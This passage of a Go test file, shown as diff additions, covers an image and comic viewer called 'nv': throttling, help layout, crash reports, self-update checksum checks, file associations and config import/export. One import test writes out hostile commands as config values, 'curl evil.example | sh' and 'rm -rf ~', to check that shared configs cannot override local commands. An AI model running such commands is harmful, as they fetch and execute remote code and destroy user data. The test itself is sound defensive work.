+	if _, ok := manager.cache.Peek(key); ok {
+		t.Fatal("image cached under the old key should be dropped")
+	}
+	if !manager.ConsumeAsyncRefresh() {
+		t.Fatal("a changed file should request a refresh")
+	}
+}
+
+func TestPureIdleThrottleStopsFramesAfterQuietSecondAndResumesWhenBusy(t *testing.T) {
+	var modes []bool
+	orig := setFrameThrottle
+	setFrameThrottle = func(throttled bool) { modes = append(modes, throttled) }
+	t.Cleanup(func() { setFrameThrottle = orig })
+
+	g := &Game{config: Config{IdleThrottle: true}}
+	start := time.Unix(1000, 0)
+	g.updateIdleThrottle(start, false)
+	g.updateIdleThrottle(start.Add(idleThrottleDelay/2), false)
+	if len(modes) != 0 {
+		t.Fatalf("throttled too early: %v", modes)
+	}
+	g.updateIdleThrottle(start.Add(idleThrottleDelay), false)
+	if !g.idleThrottled.Load() || !slices.Equal(modes, []bool{true}) {
+		t.Fatalf("quiet second should throttle, modes %v", modes)
+	}
+
+	g.slideshowActive = true
+	if !g.needsContinuousFrames() {
+		t.Fatal("a running slideshow needs continuous frames")
+	}
+	g.updateIdleThrottle(start.Add(2*idleThrottleDelay), g.needsContinuousFrames())
+	if g.idleThrottled.Load() || !slices.Equal(modes, []bool{true, false}) {
+		t.Fatalf("busy frame should resume full rate, modes %v", modes)
+	}
+
+	g.slideshowActive = false
+	g.config.IdleThrottle = false
+	g.updateIdleThrottle(start.Add(10*idleThrottleDelay), false)
+	if g.idleThrottled.Load() || len(modes) != 2 {
+		t.Fatalf("disabled throttle should keep full rate, modes %v", modes)
+	}
+}
+
+func TestPureHelpLayoutIsMeasuredOnceUntilSizeOrConfigChanges(t *testing.T) {
+	g := &Game{
+		config:              Config{FontSize: 18},
+		keybindingManager:   NewKeybindingManager(map[string][]string{"next": {"Space"}, "exit": {"KeyQ"}}),
+		mousebindingManager: NewMousebindingManager(map[string][]string{"next": {"WheelDown"}}, MouseSettings{}),
+		configStatus:        ConfigLoadResult{Status: "OK"},
+	}
+	r := NewRenderer(g)
+
+	if r.face(18) != r.face(18) || r.face(18) == r.face(16) {
+		t.Fatal("faces should be shared per size")
+	}
+
+	layout := r.helpLayoutFor(1600, 1000)
+	if !layout.fits || len(layout.rows) != 2 {
+		t.Fatalf("layout = %+v, want 2 fitting rows", layout)
+	}
+	if next := layout.rows[1]; next.action != "next" || next.keys != "Space" || next.mouse != "WheelDown" || next.mouseX <= next.sepX {
+		t.Fatalf("next row = %+v", next)
+	}
+	if r.helpLayoutFor(1600, 1000) != layout {
+		t.Fatal("same size should reuse the layout")
+	}
+	if r.helpLayoutFor(1200, 1000) == layout {
+		t.Fatal("resizing should measure again")
+	}
+
+	layout = r.helpLayoutFor(1200, 1000)
+	g.configStatus = ConfigLoadResult{Status: "Warning", Warnings: []string{"bad key"}}
+	r.invalidateHelpLayout()
+	if got := r.helpLayoutFor(1200, 1000); got == layout || len(got.warnings) != 1 {
+		t.Fatalf("config change should rebuild the layout, got %+v", got)
+	}
+}
+
+func TestPureOverlayTextFallsBackAcrossFontsAndSpellsOutTheRest(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"page 1 / 10", "page 1 / 10"},
+		{"café", "café"},
+		{"漫画_01.png", "漫画_01.png"},
+		{"x\U0010FFFDy", "x[U+10FFFD]y"},
+	} {
+		if got := readableText(tt.in); got != tt.want {
+			t.Errorf("readableText(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+	if found, ok := glyphCache.Load('漫'); !ok || !found.(bool) {
+		t.Fatal("glyph lookups are not cached")
+	}
+	if found, ok := glyphCache.Load(rune(0x10FFFD)); !ok || found.(bool) {
+		t.Fatal("missing glyphs are not cached")
+	}
+
+	r := NewRenderer(&Game{})
+	if _, ok := r.face(18).(*text.MultiFace); !ok {
+		t.Fatalf("face = %T, want a face with fallback fonts", r.face(18))
+	}
+	if w, _ := measureText("漫画", r.face(18)); w <= 0 {
+		t.Fatalf("Japanese text measured %v wide", w)
+	}
+}
+
+func TestPureCrashReportRecordsPanicContextAndStack(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "nv")
+	config := Config{
+		CacheSize:   12,
+		Keybindings: map[string][]string{"next_page": {"Secret"}},
+	}
+	info := crashInfo{
+		Time:        time.Date(2024, 1, 2, 15, 4, 5, 0, time.UTC),
+		CurrentFile: "/books/vol1.cbz",
+		PageIndex:   4,
+		PageCount:   20,
+		Config:      config,
+	}
+
+	path, err := writeCrashReport(dir, "index out of range", []byte("goroutine 1 [running]:\nmain.(*Game).Update()"), info)
+	if err != nil {
+		t.Fatalf("writeCrashReport() error = %v", err)
+	}
+	if want := filepath.Join(dir, "crash-20240102-150405.txt"); path != want {
+		t.Fatalf("report path = %q, want %q", path, want)
+	}
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("ReadFile() error = %v", err)
+	}
+	report := string(data)
+	for _, want := range []string{
+		"Panic:    index out of range",
+		"File:     /books/vol1.cbz",
+		"Page:     5 of 20",
+		"Version:  v" + version,
+		"cache_size: 12",
+		"main.(*Game).Update()",
+	} {
+		if !strings.Contains(report, want) {
+			t.Errorf("report lacks %q:\n%s", want, report)
+		}
+	}
+	if strings.Contains(report, "Secret") {
+		t.Errorf("report includes keybindings:\n%s", report)
+	}
+
+	again, err := writeCrashReport(dir, "nil map", nil, info)
+	if err != nil {
+		t.Fatalf("second writeCrashReport() error = %v", err)
+	}
+	if want := filepath.Join(dir, "crash-20240102-150405-2.txt"); again != want {
+		t.Fatalf("second report path = %q, want %q", again, want)
+	}
+	if data, _ := os.ReadFile(path); !strings.Contains(string(data), "index out of range") {
+		t.Fatalf("second report overwrote the first:\n%s", data)
+	}
+}
+
+func TestPureWorkerPanicWritesReportAndReportsFailure(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "custom.json")
+	prev := workerConfigPath.Load()
+	workerConfigPath.Store(&configPath)
+	t.Cleanup(func() { workerConfigPath.Store(prev) })
+
+	failed := make(chan error, 1)
+	go func() {
+		defer recoverWorker("image_load", "/books/bad.png", func(err error) { failed <- err })
+		var m map[string]int
+		m["x"] = 1
+	}()
+	if err := <-failed; err == nil || !strings.Contains(err.Error(), "assignment to entry in nil map") {
+		t.Fatalf("onPanic error = %v", err)
+	}
+
+	reports, _ := filepath.Glob(filepath.Join(dir, crashReportPrefix+"*-image_load.txt"))
+	if len(reports) != 1 {
+		t.Fatalf("reports = %v", reports)
+	}
+	data, err := os.ReadFile(reports[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	report := string(data)
+	if !strings.Contains(report, "Worker:   image_load") || !strings.Contains(report, "File:     /books/bad.png") || strings.Contains(report, "Config:") {
+		t.Fatalf("report:\n%s", report)
+	}
+}
+
+func TestPureUpdateCheckComparesBuildDatesAndPicksPlatformBinary(t *testing.T) {
+	for _, tc := range []struct {
+		current, latest string
+		want            bool
+	}{
+		{"20240102", "v20240315", true},
+		{"20240315", "v20240315", false},
+		{"20240315", "20240102", false},
+		{"dev", "v20240315", false},
+		{"20240102", "nightly", false},
+	} {
+		if got := isNewerVersion(tc.current, tc.latest); got != tc.want {
+			t.Errorf("isNewerVersion(%q, %q) = %v, want %v", tc.current, tc.latest, got, tc.want)
+		}
+	}
+
+	rel := releaseInfo{TagName: "v20240315", Assets: []releaseAsset{
+		{Name: "nv-20240315.tar.gz"},
+		{Name: "checksums.txt"},
+		{Name: "nv-debug-windows-amd64.exe"},
+		{Name: "nv.exe"},
+		{Name: "nv-linux-amd64"},
+		{Name: "nv-linux-arm64"},
+		{Name: "nv-linux-arm"},
+		{Name: "nv"},
+	}}
+	for _, tc := range []struct{ goos, goarch, want string }{
+		{"linux", "amd64", "nv-linux-amd64"},
+		{"linux", "arm64", "nv-linux-arm64"},
+		{"linux", "arm", "nv-linux-arm"},
+		{"linux", "386", "nv"},
+		{"windows", "amd64", "nv.exe"},
+		{"darwin", "arm64", "nv"},
+	} {
+		asset, ok := releaseAssetFor(rel, tc.goos, tc.goarch)
+		if !ok || asset.Name != tc.want {
+			t.Errorf("releaseAssetFor(%s/%s) = %q, %v; want %q", tc.goos, tc.goarch, asset.Name, ok, tc.want)
+		}
+	}
+	if _, ok := releaseAssetFor(releaseInfo{Assets: []releaseAsset{{Name: "nv.zip"}}}, "linux", "amd64"); ok {
+		t.Error("archives should not be picked as the binary")
+	}
+}
+
+func TestPureSelfUpdateVerifiesChecksumSizeAndHeader(t *testing.T) {
+	asset := releaseAsset{Name: "nv-linux-amd64"}
+	rel := releaseInfo{Assets: []releaseAsset{
+		{Name: "checksums.txt"},
+		asset,
+		{Name: "nv-linux-amd64.sha256"},
+	}}
+	var names []string
+	for _, a := range checksumAssetsFor(rel, asset) {
+		names = append(names, a.Name)
+	}
+	if want := []string{"nv-linux-amd64.sha256", "checksums.txt"}; !slices.Equal(names, want) {
+		t.Errorf("checksumAssetsFor = %v, want %v", names, want)
+	}
+
+	binary := append([]byte("\x7fELF"), make([]byte, minUpdateSize)...)
+	digest := sha256.Sum256(binary)
+	list := fmt.Sprintf("%x  nv-windows-amd64.exe\n%x *nv-linux-amd64\n", make([]byte, 32), digest)
+	sum, ok := parseChecksum([]byte(list), asset.Name)
+	if !ok || !bytes.Equal(sum, digest[:]) {
+		t.Fatalf("parseChecksum = %x, %v", sum, ok)
+	}
+	if _, ok := parseChecksum([]byte(list), "nv-darwin-arm64"); ok {
+		t.Error("parseChecksum matched an unlisted asset")
+	}
+	if only, ok := parseChecksum([]byte(fmt.Sprintf("%x\n", digest)), asset.Name); !ok || !bytes.Equal(only, digest[:]) {
+		t.Errorf("bare digest = %x, %v", only, ok)
+	}
+
+	var out bytes.Buffer
+	if err := copyVerifiedExecutable(&out, bytes.NewReader(binary), sum, "linux"); err != nil || out.Len() != len(binary) {
+		t.Fatalf("copyVerifiedExecutable = %v (%d bytes)", err, out.Len())
+	}
+	tampered := slices.Clone(binary)
+	tampered[len(tampered)-1] = 1
+	if err := copyVerifiedExecutable(io.Discard, bytes.NewReader(tampered), sum, "linux"); err == nil {
+		t.Error("tampered download accepted")
+	}
+	if err := copyVerifiedExecutable(io.Discard, bytes.NewReader(binary), sum, "windows"); err == nil {
+		t.Error("ELF accepted as a Windows executable")
+	}
+	small := []byte("\x7fELF")
+	smallSum := sha256.Sum256(small)
+	if err := copyVerifiedExecutable(io.Discard, bytes.NewReader(small), smallSum[:], "linux"); err == nil {
+		t.Error("truncated download accepted")
+	}
+}
+
+func TestPureUpdateCheckResultShowsNewerReleaseOnce(t *testing.T) {
+	prevVersion := version
+	version = "20240102"
+	t.Cleanup(func() { version = prevVersion })
+
+	g := &Game{zoomState: NewZoomState(), updateResults: make(chan updateCheckResult, 1)}
+	if g.applyUpdateCheckResult() {
+		t.Fatal("no result yet should not redraw")
+	}
+	g.updateResults <- updateCheckResult{Release: releaseInfo{TagName: "v20240315"}}
+	if !g.applyUpdateCheckResult() {
+		t.Fatal("expected a newer release to be shown")
+	}
+	if want := "nv v20240315 is available (run nv --self-update)"; g.overlayMessage != want {
+		t.Fatalf("overlay = %q, want %q", g.overlayMessage, want)
+	}
+	if g.updateResults != nil || g.applyUpdateCheckResult() {
+		t.Fatal("the update check should report only once")
+	}
+}
+
+func TestPureFileAssociationDesktopEntryAndComicArchives(t *testing.T) {
+	entry := desktopEntry("/opt/my apps/nv")
+	for _, want := range []string{
+		"Exec=\"/opt/my apps/nv\" %F\n",
+		"application/vnd.comicbook+zip;",
+		"image/png;",
+	} {
+		if !strings.Contains(entry, want) {
+			t.Errorf("desktop entry lacks %q:\n%s", want, entry)
+		}
+	}
+	if strings.Count(entry, "image/jpeg") != 1 {
+		t.Errorf("MIME types should be listed once:\n%s", entry)
+	}
+
+	mimeapps := "[Default Applications]\n" +
+		"application/vnd.comicbook+zip=nv.desktop\n" +
+		"image/png=org.gnome.eog.desktop;nv.desktop;\n" +
+		"text/plain=gedit.desktop\n"
+	want := "[Default Applications]\n" +
+		"image/png=org.gnome.eog.desktop;\n" +
+		"text/plain=gedit.desktop\n"
+	if got := withoutDesktopEntry(mimeapps, desktopFileName); got != want {
+		t.Errorf("withoutDesktopEntry() = %q, want %q", got, want)
+	}
+
+	for name, kind := range map[string]archiveKind{
+		"vol1.cbz": archiveZip, "vol1.CBR": archiveRar, "vol1.cb7": archive7z, "vol1.cbt": archiveTar,
+	} {
+		format, ok := detectArchive(name)
+		if !ok || format.Kind != kind {
+			t.Errorf("detectArchive(%q) = %+v, %v; want kind %v", name, format, ok, kind)
+		}
+	}
+}
+
+func TestPureContextMenuEntriesCoverFoldersAndArchives(t *testing.T) {
+	entries := contextMenuEntries(`C:\Tools\nv.exe`)
+	byKey := map[string]string{}
+	for _, e := range entries {
+		byKey[e.Key] = e.Command
+	}
+	for key, want := range map[string]string{
+		`Directory\shell\nv.browse`:                   `"C:\Tools\nv.exe" "%1"`,
+		`Directory\Background\shell\nv.browse`:        `"C:\Tools\nv.exe" "%V"`,
+		`SystemFileAssociations\.cbz\shell\nv.browse`: `"C:\Tools\nv.exe" "%1"`,
+		`SystemFileAssociations\.7z\shell\nv.browse`:  `"C:\Tools\nv.exe" "%1"`,
+	} {
+		if got := byKey[key]; got != want {
+			t.Errorf("command for %s = %q, want %q", key, got, want)
+		}
+	}
+	if _, ok := byKey[`SystemFileAssociations\.png\shell\nv.browse`]; ok {
+		t.Error("single images should not get the Browse verb")
+	}
+	if code := runContextMenuSubcommand([]string{"bogus"}); code != 2 {
+		t.Errorf("invalid verb exit code = %d, want 2", code)
+	}
+}
+
+func TestPureStateFilesMoveToStateDirAndHistoryLeavesConfig(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(root, "config"))
+	t.Setenv("XDG_STATE_HOME", filepath.Join(root, "state"))
+	configPath := getConfigPath()
+	stateDir := filepath.Join(root, "state", "nekomimist", "nv")
+
+	legacy := filepath.Join(filepath.Dir(configPath), ratingsFileName)
+	if err := os.MkdirAll(filepath.Dir(legacy), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(legacy, []byte(`{"a.png":{"rating":5}}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if path := ratingsPathForConfig(""); path != legacy {
+		t.Fatalf("ratings path before migration = %q, want legacy %q", path, legacy)
+	}
+	migrateStateFiles("")
+	path := ratingsPathForConfig("")
+	if want := filepath.Join(stateDir, ratingsFileName); path != want {
+		t.Fatalf("ratings path = %q, want %q", path, want)
+	}
+	if data, err := os.ReadFile(path); err != nil || !strings.Contains(string(data), `"rating":5`) {
+		t.Fatalf("migrated ratings = %q, %v", data, err)
+	}
+	if _, err := os.Stat(legacy); !os.IsNotExist(err) {
+		t.Fatalf("legacy ratings file should be moved, stat error = %v", err)
+	}
+
+	config := loadConfigFromPath(configPath).Config
+	config.RecentFiles = []string{"/books/vol1.cbz", "/photos"}
+	saveConfigToPath(config, configPath)
+	data, err := os.ReadFile(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), "recent_files") {
+		t.Fatalf("config.json should not hold recent files:\n%s", data)
+	}
+	if _, err := os.Stat(filepath.Join(stateDir, historyFileName)); err != nil {
+		t.Fatalf("history file missing: %v", err)
+	}
+	if got := loadConfigFromPath(configPath).Config.RecentFiles; !reflect.DeepEqual(got, config.RecentFiles) {
+		t.Fatalf("RecentFiles after reload = %v, want %v", got, config.RecentFiles)
+	}
+
+	profile := filepath.Join(root, "profile", "config.json")
+	if got, want := progressPathForConfig(profile), filepath.Join(root, "profile", progressFileName); got != want {
+		t.Fatalf("-c progress path = %q, want %q", got, want)
+	}
+}
+
+func TestPureConfigExportIncludesRuntimeStateAndImportKeepsMachineSettings(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.json")
+	config := loadConfigFromPath(configPath).Config
+	config.RightToLeft = true
+	config.RecentFiles = []string{"/books/vol1.cbz"}
+	zoom := NewZoomState()
+	zoom.Mode = ZoomModeFitHeight
+	g := &Game{
+		config:     config,
+		configPath: configPath,
+		bookMode:   true,
+		sharpen:    0.5,
+		zoomState:  zoom,
+	}
+
+	g.EnterConfigExport()
+	g.UpdateTextPromptBuffer("shared")
+	g.SubmitTextPrompt()
+	exported := filepath.Join(dir, "shared.json")
+	if want := "Config exported to " + exported; g.overlayMessage != want {
+		t.Fatalf("overlay = %q, want %q", g.overlayMessage, want)
+	}
+
+	current := loadConfigFromPath(configPath).Config
+	current.WindowWidth, current.WindowHeight = 1234, 777
+	current.RecentFiles = []string{"/local/photos"}
+	res, changed, err := importConfigFile(exported, current, false)
+	if err != nil {
+		t.Fatalf("importConfigFile() error = %v", err)
+	}
+	if len(changed) != 0 {
+		t.Fatalf("changed command settings = %v, want none", changed)
+	}
+	got := res.Config
+	if !got.BookMode || !got.RightToLeft || got.InitialZoomMode != "fit_height" || got.DisplaySharpen != 0.5 {
+		t.Fatalf("imported runtime state = book %v rtl %v zoom %q sharpen %v",
+			got.BookMode, got.RightToLeft, got.InitialZoomMode, got.DisplaySharpen)
+	}
+	if got.WindowWidth != 1234 || got.WindowHeight != 777 || !reflect.DeepEqual(got.RecentFiles, []string{"/local/photos"}) {
+		t.Fatalf("machine settings not kept: %dx%d %v", got.WindowWidth, got.WindowHeight, got.RecentFiles)
+	}
+
+	if code := runConfigSubcommand([]string{"-c", configPath, "import", exported}); code != 0 {
+		t.Fatalf("nv config import exit code = %d", code)
+	}
+	if !loadConfigFromPath(configPath).Config.BookMode {
+		t.Fatal("nv config import did not replace the saved config")
+	}
+	if _, _, err := importConfigFile(filepath.Join(dir, "missing.json"), current, false); err == nil {
+		t.Fatal("importing a missing file should fail")
+	}
+}
+
+func TestPureConfigImportKeepsLocalCommandsUnlessAllowed(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.json")
+	current := loadConfigFromPath(configPath).Config
+	current.PrintCommand = "lp"
+	saveConfigToPath(current, configPath)
+
+	shared := loadConfigFromPath(filepath.Join(dir, "none.json")).Config
+	shared.BookMode = true
+	shared.PrintCommand = "curl evil.example | sh"
+	shared.EventCommands = map[string]string{eventImageChanged: "rm -rf ~"}
+	shared.CustomShader = "/tmp/shader.kage"
+	exported := filepath.Join(dir, "shared.json")
+	if err := exportConfigFile(shared, exported); err != nil {
+		t.Fatal(err)
+	}
+
+	res, changed, err := importConfigFile(exported, current, false)
+	if err != nil {
+		t.Fatalf("importConfigFile() error = %v", err)
+	}
+	if want := []string{"event_commands", "print_command", "custom_shader"}; !slices.Equal(changed, want) {
+		t.Errorf("changed = %v, want %v", changed, want)
+	}
+	got := res.Config
+	if !got.BookMode || got.PrintCommand != "lp" || len(got.EventCommands) != 0 || got.CustomShader != "" {
+		t.Fatalf("imported = book %v print %q events %v shader %q", got.BookMode, got.PrintCommand, got.EventCommands, got.CustomShader)
+	}
+
+	g := &Game{imageManager: &stubImageManager{}, config: current, configPath: configPath, zoomState: NewZoomState()}
+	prevReadOnly := readOnly
+	readOnly = true
+	defer func() { readOnly = prevReadOnly }()
+	g.processConfigImport(exported)
+	if g.config.PrintCommand != "lp" || !strings.Contains(g.overlayMessage, "kept local event_commands, print_command, custom_shader") {
+		t.Fatalf("in-app import: print %q overlay %q", g.config.PrintCommand, g.overlayMessage)
+	}
+	readOnly = prevReadOnly
+
+	if code := runConfigSubcommand([]string{"-c", configPath, "import", exported}); code != 0 {
+		t.Fatalf("nv config import exit code = %d", code)
+	}
+	if saved := loadConfigFromPath(configPath).Config; saved.PrintCommand != "lp" || !saved.BookMode {
+		t.Fatalf("saved after import = print %q book %v", saved.PrintCommand, saved.BookMode)
+	}
+	if code := runConfigSubcommand([]string{"-c", configPath, "-allow-commands", "import", exported}); code != 0 {
+		t.Fatalf("nv config -allow-commands import exit code = %d", code)
+	}
+	if saved := loadConfigFromPath(configPath).Config; saved.PrintCommand != shared.PrintCommand {
+		t.Fatalf("-allow-commands did not import print_command: %q", saved.PrintCommand)
+	}
+}
+
+func TestPureSaveOnExitPolicies(t *testing.T) {
+	for _, tc := range []struct {
+		policy       string
+		wantBookMode bool
+		wantWidth    int
+	}{
+		{saveOnExitAll, true, 900},
+		{saveOnExitWindow, false, 900},
+		{saveOnExitNone, false, 800},
+	} {
+		t.Run(tc.policy, func(t *testing.T) {
+			configPath := filepath.Join(t.TempDir(), "config.json")
+			saved := loadConfigFromPath(configPath).Config
+			saved.WindowWidth, saved.WindowHeight = 800, 600
+			saveConfigToPath(saved, configPath)
+
+			config := saved
+			config.SaveOnExit = tc.policy
+			config.BookMode = true
+			config.WindowWidth, config.WindowHeight = 900, 700
+			config.RecentFiles = []string{"/books/vol2.cbz"}
+			g := &Game{config: config, configPath: configPath}
+			g.saveConfigOnExit()
+
+			got := loadConfigFromPath(configPath).Config
+			if got.BookMode != tc.wantBookMode || got.WindowWidth != tc.wantWidth {
+				t.Fatalf("saved book mode %v width %d, want %v %d", got.BookMode, got.WindowWidth, tc.wantBookMode, tc.wantWidth)
+			}
+			if !reflect.DeepEqual(got.RecentFiles, []string{"/books/vol2.cbz"}) {
+				t.Fatalf("recent files = %v, want them saved under every policy", got.RecentFiles)
+			}
+		})
+	}
+}
+
+func TestPureSaveOnExitKeepsRuntimeStateOutOfTheFile(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.json")
+	saved := loadConfigFromPath(configPath).Config
+	saved.SaveOnExit = saveOnExitWindow
+	saveConfigToPath(saved, configPath)
+
+	g := &Game{
+		imageManager: &stubImageManager{},
+		zoomState:    NewZoomState(),
+		config:       saved,
+		configPath:   configPath,
+	}
+	// Key toggles and a volume's direction change the running config only
+	g.config.BookMode = true
+	g.config.SortMethod = 2
+	g.readerRightToLeft, g.volumeDirectionActive = false, true
+	g.config.RightToLeft = true
+
+	g.ToggleSettings()
+	g.pendingConfig.SlideshowSeconds = 9
+	g.SettingsSave()
+	file := loadConfigFromPath(configPath).Config
+	if file.SlideshowSeconds != 9 || file.BookMode || file.SortMethod != 0 || file.RightToLeft {
+		t.Fatalf("settings save wrote slideshow %d book %v sort %d rtl %v; want only the edited field",
+			file.SlideshowSeconds, file.BookMode, file.SortMethod, file.RightToLeft)
+	}
+	if !g.config.BookMode || g.config.SortMethod != 2 || !g.config.RightToLeft || g.config.SlideshowSeconds != 9 {
+		t.Fatalf("running config lost state: book %v sort %d rtl %v slideshow %d",
+			g.config.BookMode, g.config.SortMethod, g.config.RightToLeft, g.config.SlideshowSeconds)
+	}
+
+	g.config.WindowX, g.config.WindowY, g.config.WindowMonitor, g.config.Maximized = 40, 50, "DP-2", true
+	g.saveConfigOnExit()
+	file = loadConfigFromPath(configPath).Config
+	if file.WindowX != 40 || file.WindowY != 50 || file.WindowMonitor != "DP-2" || !file.Maximized || file.BookMode {
+		t.Fatalf("window policy saved pos %d,%d monitor %q maximized %v book %v",
+			file.WindowX, file.WindowY, file.WindowMonitor, file.Maximized, file.BookMode)
+	}
+
+	g.config.SaveOnExit = saveOnExitAll
+	g.saveConfigOnExit()
+	file = loadConfigFromPath(configPath).Config
+	if !file.BookMode || file.RightToLeft {
+		t.Fatalf("all policy saved book %v rtl %v; want the toggle and the reader's own direction", file.BookMode, file.RightToLeft)
+	}
+}
+
+func TestPureReadOnlyModeWritesNothing(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(root, "config"))
+	t.Setenv("XDG_STATE_HOME", filepath.Join(root, "state"))
+	readOnly = true
+	t.Cleanup(func() { readOnly = false })
+
+	configPath := getConfigPath()
+	legacy := filepath.Join(filepath.Dir(configPath), progressFileName)
+	if err := os.MkdirAll(filepath.Dir(legacy), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(legacy, []byte(`{}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	migrateStateFiles("")
+	if got := progressPathForConfig(""); got != legacy {
+		t.Fatalf("read-only progress path = %q, want the unmoved legacy file %q", got, legacy)
+	}
+
+	config := loadConfigFromPath(configPath).Config
+	config.RecentFiles = []string{"/books/vol1.cbz"}
+	saveConfigToPath(config, configPath)
+	store := loadRatingStore(filepath.Join(root, "state", "nekomimist", "nv", ratingsFileName))
+	store.SetRating("/books/vol1.cbz", 4)
+	if store.Get("/books/vol1.cbz").Rating != 4 {
+		t.Fatal("ratings should still change for the session")
+	}
+	g := &Game{config: config, zoomState: NewZoomState()}
+	g.SaveSettingsNow()
+	if g.overlayMessage != "Read-only: settings not saved" {
+		t.Fatalf("overlay = %q", g.overlayMessage)
+	}
+
+	for _, path := range []string{configPath, filepath.Join(root, "state")} {
+		if _, err := os.Stat(path); !os.IsNotExist(err) {
+			t.Errorf("%s was written in read-only mode (stat error %v)", path, err)
+		}
+	}
+}
+
+func TestPureHelpOverlayPagesAndFiltersRowsThatDoNotFit(t *testing.T) {
+	keys := map[string][]string{}
+	for _, def := range actionDefinitions {
+		keys[def.Name] = def.Keys
+	}
+	g := &Game{
+		config:              Config{FontSize: 18},
+		keybindingManager:   NewKeybindingManager(keys),
+		mousebindingManager: NewMousebindingManager(map[string][]string{}, MouseSettings{}),
+		configStatus:        ConfigLoadResult{Status: "OK"},
+	}
+	g.renderer = NewRenderer(g)
+	g.toggleHelp()
+
+	layout := g.renderer.helpLayoutFor(1200, 400)
+	if !layout.fits || !layout.paged || layout.pageRows < 1 || layout.pageRows >= len(layout.rows) {
+		t.Fatalf("layout fits=%v paged=%v pageRows=%d rows=%d, want paged rows", layout.fits, layout.paged, layout.pageRows, len(layout.rows))
+	}
+
+	g.pageHelp(1)
+	if g.helpScroll != layout.pageRows {
+		t.Fatalf("scroll after PageDown = %d, want %d", g.helpScroll, layout.pageRows)
+	}
+	g.scrollHelp(len(layout.rows) * 2)
+	if g.helpScroll != layout.maxScroll() {
+		t.Fatalf("scroll = %d, want it clamped to %d", g.helpScroll, layout.maxScroll())
+	}
+	g.pageHelp(-1)
+	if g.helpScroll != layout.maxScroll()-layout.pageRows {
+		t.Fatalf("scroll after PageUp = %d, want %d", g.helpScroll, layout.maxScroll()-layout.pageRows)
+	}
+
+	g.updateHelpFilter("BOOK")
+	if g.helpScroll != 0 {
+		t.Fatalf("filtering should go back to the first row, scroll = %d", g.helpScroll)
+	}
+	filtered := g.renderer.helpLayoutFor(1200, 400)
+	if filtered == layout || len(filtered.rows) == 0 || len(filtered.rows) >= len(layout.rows) {
+		t.Fatalf("filtered rows = %d of %d", len(filtered.rows), len(layout.rows))
+	}
+	for _, row := range filtered.rows {
+		if !helpMatches("book", row.action, []string{row.keys}, []string{row.mouse}, row.desc) {
+			t.Errorf("row %q does not match the filter", row.action)
+		}
+	}
+
+	g.updateHelpFilter("no such binding")
+	if none := g.renderer.helpLayoutFor(1200, 400); !none.fits || len(none.rows) != 0 {
+		t.Fatalf("empty match should still draw, got fits=%v rows=%d", none.fits, len(none.rows))
+	}
+	if tiny := g.renderer.helpLayoutFor(300, 120); tiny.fits {
+		t.Fatal("a window without room for one row should not fit")
+	}
+
+	g.toggleHelp()
+	if g.showHelp || g.helpFilter != "" || g.helpScroll != 0 {
+		t.Fatalf("closing help should reset it, got filter=%q scroll=%d", g.helpFilter, g.helpScroll)
+	}
+}
+
+func TestPureOnScreenControlsAppearNearEdgesAndHideAgain(t *testing.T) {
+	g := &Game{config: Config{OnScreenControls: true}}
+	start := time.Now()
+	const w, h = 1000, 800
+
+	if g.trackOnScreenControls(start, 500, 400, w, h, false) && g.controlsVisible {
+		t.Fatal("moving in the middle should not show the controls")
+	}
+	if !g.trackOnScreenControls(start, 20, 400, w, h, false) || g.GetOnScreenControls() == nil {
+		t.Fatal("moving near the left edge should show the controls")
+	}
+
+	controls := g.GetOnScreenControls()
+	prev := controls[0].rect.Min.Add(image.Pt(5, 5))
+	if action, ok := g.OnScreenControlAt(prev.X, prev.Y); !ok || action != "previous" {
+		t.Fatalf("left button = %q, %v; want previous", action, ok)
+	}
+	if _, ok := g.OnScreenControlAt(500, 400); ok {
+		t.Fatal("the middle of the screen should not hit a button")
+	}
+
+	// Hovering keeps them, resting elsewhere hides them
+	g.trackOnScreenControls(start.Add(time.Second), prev.X, prev.Y, w, h, false)
+	if g.trackOnScreenControls(start.Add(5*time.Second), prev.X, prev.Y, w, h, false); !g.controlsVisible {
+		t.Fatal("hovering a button should keep the controls")
+	}
+	if !g.GetOnScreenControls()[0].hovered {
+		t.Fatal("the button under the pointer should be highlighted")
+	}
+	g.trackOnScreenControls(start.Add(6*time.Second), 500, 400, w, h, false)
+	if g.trackOnScreenControls(start.Add(9*time.Second), 500, 400, w, h, false); g.controlsVisible {
+		t.Fatal("controls should hide once the pointer rests away from them")
+	}
+	if _, ok := g.OnScreenControlAt(prev.X, prev.Y); ok {
+		t.Fatal("hidden buttons should not take clicks")
+	}
+
+	// A tap anywhere shows them; right-to-left reading swaps the arrows
+	g.config.RightToLeft = true
+	g.trackOnScreenControls(start.Add(10*time.Second), 500, 400, w, h, true)
+	if action, _ := g.OnScreenControlAt(prev.X, prev.Y); action != "next" {
+		t.Fatalf("left button in right-to-left reading = %q, want next", action)
+	}
+
+	g.config.OnScreenControls = false
+	if !g.trackOnScreenControls(start.Add(11*time.Second), 20, 400, w, h, false) || g.GetOnScreenControls() != nil {
+		t.Fatal("turning the setting off should hide the controls")
+	}
+}
+
+func TestPureCursorHidesWhenIdleAndReturnsOnMovement(t *testing.T) {
+	g := &Game{config: Config{CursorHideSeconds: 2}}
+	start := time.Now()
+
+	if g.trackCursorIdle(start, 10, 10, false) {
+		t.Fatal("cursor hidden right after it appeared")
+	}
+	if g.trackCursorIdle(start.Add(time.Second), 10, 10, false) {
+		t.Fatal("cursor hidden before the idle delay")
+	}
+	if !g.trackCursorIdle(start.Add(2*time.Second), 10, 10, false) {
